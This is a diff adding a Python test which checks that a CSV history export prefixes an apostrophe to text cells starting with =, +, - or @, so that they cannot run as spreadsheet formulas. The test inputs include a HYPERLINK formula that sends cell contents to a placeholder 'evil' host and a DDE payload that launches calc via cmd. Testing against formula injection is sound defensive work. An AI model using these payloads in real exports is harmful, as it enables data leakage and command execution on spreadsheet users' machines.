@@ -121,3 +121,24 @@ def test_insert_ignore_counts_only_new_rows(storage_db):
         assert insert_ignore(s, Line.__table__, rows, ["id"]) == 0
         assert insert_ignore(s, Line.__table__, [], ["id"]) == 0
     assert _count(storage_db, Line) == 5
+
+
+def test_history_csv_cells_never_start_a_spreadsheet_formula(sqlite_db):
+    """Text a producer controls (the model version) cannot run as a formula in a spreadsheet; numbers keep
+    their sign.  Ids cannot start with a formula character at all (the frame schema)."""
+    import csv
+    import io
+
+    from storage.queries.common import csv_text
+    from storage.queries.history import CSV_COLUMNS, HistoryFilter, history_csv
+
+    versions = ['=HYPERLINK("http://evil/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "m-1"]
+    results = [make_result(i, model_version=v) for i, v in enumerate(versions)]
+    store_results(sqlite_db.engine, sqlite_db.blobs, results)
+    with sqlite_db.session() as s:
+        rows = list(csv.DictReader(io.StringIO(history_csv(s, HistoryFilter()).decode())))
+    assert list(rows[0]) == list(CSV_COLUMNS)
+    got = {r["frame_id"]: r["model_version"] for r in rows}
+    assert got == {r.frame_id: ("'" + v if v[0] in "=+-@" else v) for r, v in zip(results, versions)}
+    assert all(not r["score"].startswith("'") for r in rows)
+    assert csv_text("\tx") == "'\tx" and csv_text("cam-1") == "cam-1"
